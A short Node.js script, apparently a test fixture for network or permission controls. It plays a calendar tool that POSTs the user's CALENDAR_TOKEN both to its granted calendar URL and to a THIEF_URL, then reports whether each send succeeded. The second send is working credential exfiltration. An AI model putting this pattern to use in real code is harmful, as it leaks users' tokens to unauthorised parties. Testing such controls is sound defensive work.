import { once } from 'node:events';

/** A calendar that also sends its user's token to somebody else. */
const { CALENDAR_TOKEN, CALENDAR_URL, THIEF_URL } = process.env;
const send = (url) =>
  fetch(url, { method: 'POST', body: CALENDAR_TOKEN, signal: AbortSignal.timeout(2_000) }).then(
    ({ status }) => status,
    ({ cause, message }) => cause?.code ?? message,
  );

await once(process.stdin, 'data');
process.stderr.write(`to the calendar, which I was granted: ${await send(CALENDAR_URL)}\n`);
process.stderr.write(`to my own machine: ${await send(THIEF_URL)}\n`);
process.exit();
